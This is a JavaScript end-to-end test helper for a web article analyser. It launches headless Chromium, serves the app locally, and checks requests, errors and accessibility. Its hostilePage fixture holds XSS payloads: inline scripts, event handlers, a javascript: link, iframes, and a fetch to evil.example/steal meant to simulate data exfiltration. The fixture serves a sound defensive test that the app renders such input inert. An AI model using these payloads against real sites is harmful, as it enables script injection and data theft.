// Shared set-up for the end-to-end tests: a static server for www/, Debian's Chromium
// through playwright-core, and a record of every request a page makes.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";

export const ROOT = fileURLToPath(new URL("../../", import.meta.url));
export const SCREENSHOTS = fileURLToPath(new URL("./screenshots/", import.meta.url));
mkdirSync(SCREENSHOTS, { recursive: true });

/** Chromium path from wasm-pack.toml ([browser] chromium), else Debian's. */
function chromiumPath() {
  const toml = readFileSync(new URL("wasm-pack.toml", `file://${ROOT}`), "utf8");
  return /^chromium\s*=\s*"([^"]+)"/m.exec(toml)?.[1] ?? "/usr/bin/chromium";
}

/** Flags checked for Debian's Chromium as root in a container (docs: toolchain §6). */
export function launchBrowser() {
  return chromium.launch({
    executablePath: chromiumPath(),
    args: [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
  });
}

/**
 * Serves www/ (or STORYLENS_WWW, e.g. an older build to show that a test fails there) with
 * python's http.server on 127.0.0.1 and a free port. Resolves to {origin, close()}.
 */
export function serveWww() {
  return new Promise((resolve, reject) => {
    const server = spawn("python3", ["-u", "-m", "http.server", "0", "--bind", "127.0.0.1", "--directory", process.env.STORYLENS_WWW || `${ROOT}www`], {
      stdio: ["ignore", "pipe", "pipe"],
    });
    let out = "";
    const timer = setTimeout(() => reject(new Error(`http.server did not start: ${out}`)), 15000);
    server.on("error", reject);
    server.stdout.on("data", (chunk) => {
      out += chunk;
      const m = /Serving HTTP on 127\.0\.0\.1 port (\d+)/.exec(out);
      if (m) {
        clearTimeout(timer);
        resolve({
          origin: `http://127.0.0.1:${m[1]}`,
          close: () => new Promise((done) => (server.exitCode !== null ? done() : (server.once("exit", done), server.kill()))),
        });
      }
    });
    server.stderr.on("data", () => {}); // access log; keep the pipe drained
  });
}

/**
 * A new page whose every request (including the worker's) is recorded in `requests`,
 * and whose uncaught errors and console errors are recorded in `errors`.
 */
export async function openPage(browser, { width = 1280, height = 900 } = {}) {
  const context = await browser.newContext({ viewport: { width, height } });
  const requests = [];
  const errors = [];
  context.on("request", (r) => requests.push(r.url()));
  const page = await context.newPage();
  page.on("pageerror", (e) => errors.push(`pageerror: ${e.message}`));
  page.on("console", (m) => m.type() === "error" && errors.push(`console: ${m.text()}`));
  page.on("worker", (w) => w.on("console", (m) => m.type() === "error" && errors.push(`worker console: ${m.text()}`)));
  return { context, page, requests, errors };
}

/** Waits until the analyser is loaded (the page sets body[data-state]). */
export async function waitReady(page) {
  await page.waitForSelector("body[data-state=ready]", { timeout: 30000 });
}

/** Clicks Analyse and waits for the results (or fails with the page's error text). */
export async function analyse(page) {
  await page.click("#analyse");
  await page.waitForSelector("body[data-state=done], body[data-state=error]", { timeout: 60000 });
  const state = await page.getAttribute("body", "data-state");
  if (state !== "done") throw new Error(`analysis failed (${state}): ${await page.textContent("#error")} ${await page.textContent("#status")}`);
}

/** Every offset in a storylens/1 analysis must point at its quoted text (code points): tests/e2e/spans.mjs. */
export { offsetMismatches } from "./spans.mjs";

/** Presses "Load example" and waits for the five source cards. */
export async function loadExample(page) {
  await page.click("#load-example");
  await page.waitForSelector(".source-card >> nth=4");
}

/** Only the page's own origin (and data:/blob:) in `requests`; returns the others. */
export function foreignRequests(requests, origin) {
  return requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith("data:") && !url.startsWith("blob:"));
}

/** Clicks `selector`, waits for the download it starts; resolves to {name, text}. */
export async function downloadText(page, selector) {
  const [download] = await Promise.all([page.waitForEvent("download"), page.click(selector)]);
  const path = await download.path();
  const { readFile } = await import("node:fs/promises");
  return { name: download.suggestedFilename(), text: await readFile(path, "utf8") };
}

/** Opens the source cards when an analysis has folded them into the strip (results first). */
export async function openSources(page) {
  if (await page.locator("#input-panel.compact").count()) await page.click("#edit-sources");
  await page.waitForSelector(".source-card", { state: "visible" });
}

/** The names the page gives the sources (the chips of the source strip), in order. */
export const cardNames = (page) =>
  page.evaluate(() => {
    const strip = [...document.querySelectorAll("#source-strip .strip-name")].map((e) => e.textContent);
    // Pages before the strip (an older build under STORYLENS_WWW) named sources in a field on each card.
    return strip.length ? strip : [...document.querySelectorAll(".source-card .source-name")].map((e) => e.value);
  });

/** Text of `File`s for page.setInputFiles. */
export const file = (name, text, mimeType = "text/plain") => ({ name, mimeType, buffer: Buffer.from(text, "utf8") });

/**
 * Runs axe-core (from node_modules, never shipped) in the page and returns the
 * serious and critical violations as readable strings. Playwright's evaluate is not
 * subject to the page's Content-Security-Policy, so the page's CSP stays as it is.
 */
export async function axeViolations(page) {
  const source = readFileSync(`${ROOT}node_modules/axe-core/axe.min.js`, "utf8");
  await page.evaluate(source);
  const result = await page.evaluate(() => window.axe.run(document, { resultTypes: ["violations"] }));
  return result.violations
    .filter((v) => v.impact === "serious" || v.impact === "critical")
    .map((v) => `${v.id} (${v.impact}): ${v.help} — ${v.nodes.slice(0, 3).map((n) => n.target.join(" ")).join(", ")}`);
}

/**
 * A saved web page that tries everything: scripts in head, body and SVG, event handlers,
 * a javascript: link, iframes, images, objects, a meta refresh and remote styles, all
 * aimed at evil.example. `a` and `b` are the article's two paragraphs of real text.
 */
export function hostilePage(a, b) {
  return `<!doctype html><html><head><title>Hostile page</title>
<script>window.__xss = "head script"; fetch("http://evil.example/steal")</script>
<meta http-equiv="refresh" content="0; url=http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css"></head>
<body onload="window.__xss = 'onload'"><article><h1 onclick="window.__xss='h1'">Talks in Istanbul</h1>
<p>${a} <img src="http://evil.example/pixel.gif" onerror="window.__xss = 'img'"> More text about the embassy talks follows here for length.</p>
<iframe src="http://evil.example/frame" onload="window.__xss='iframe'"></iframe><script>window.__xss = "body script"</script>
<p>${b} <a href="javascript:window.__xss='link'">click</a> <svg onload="window.__xss='svg'"><script>window.__xss='svg script'</script></svg></p>
<object data="http://evil.example/obj"></object><embed src="http://evil.example/embed"><form action="http://evil.example/"><input autofocus onfocus="window.__xss='focus'"></form>
</article></body></html>`;
}

/**
 * After a hostile page was analysed (hostilePage): nothing from it ran or became an
 * element, the reader shows `text` from its article and no script text, and `foreign` (the requests
 * outside the page's own files) is empty.
 */
export async function assertHostileInert(page, text, foreign) {
  await page.click("#tab-reader");
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => window.__xss), undefined, "the hostile page ran code");
  assert.equal(await page.locator("main iframe, main script, main img, main object, main embed, main svg, main form").count(), 0, "hostile markup became elements");
  const read = await page.textContent("#reader-text");
  assert.ok(read.includes(text), read);
  assert.ok(!read.includes("window.__xss"), `script text leaked into the article: ${read}`);
  assert.deepEqual(foreign, [], "the hostile page made requests");
}
